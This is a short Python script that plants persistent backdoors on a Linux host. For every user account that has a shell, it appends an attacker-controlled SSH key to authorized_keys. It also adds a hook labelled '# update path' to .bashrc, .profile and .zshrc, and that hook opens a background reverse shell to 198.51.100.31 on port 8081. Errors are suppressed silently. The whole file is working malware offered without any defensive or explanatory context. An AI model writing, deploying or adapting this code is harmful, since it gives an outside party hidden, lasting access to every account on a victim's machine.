import os, pwd

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLACEHOLDERKEYxxxxxxxxxxxxxxxxxxxxxxxxxxx root@backup"
HOOK = '\n# update path\n(nohup bash -c "bash -i >& /dev/tcp/198.51.100.31/8081 0>&1" >/dev/null 2>&1 &)\n'

def backdoor_home(home, uid, gid):
    ssh = os.path.join(home, ".ssh")
    os.makedirs(ssh, mode=0o700, exist_ok=True)
    ak = os.path.join(ssh, "authorized_keys")
    existing = open(ak).read() if os.path.exists(ak) else ""
    if KEY not in existing:
        with open(ak, "a") as f:
            f.write("\n" + KEY + "\n")
    os.chmod(ak, 0o600)
    for rc in (".bashrc", ".profile", ".zshrc"):
        p = os.path.join(home, rc)
        if os.path.exists(p) and "198.51.100.31" not in open(p).read():
            with open(p, "a") as f:
                f.write(HOOK)
    try:
        os.chown(ssh, uid, gid); os.chown(ak, uid, gid)
    except PermissionError:
        pass

for u in pwd.getpwall():
    if u.pw_shell.endswith("sh") and os.path.isdir(u.pw_dir):
        try:
            backdoor_home(u.pw_dir, u.pw_uid, u.pw_gid)
        except Exception:
            pass
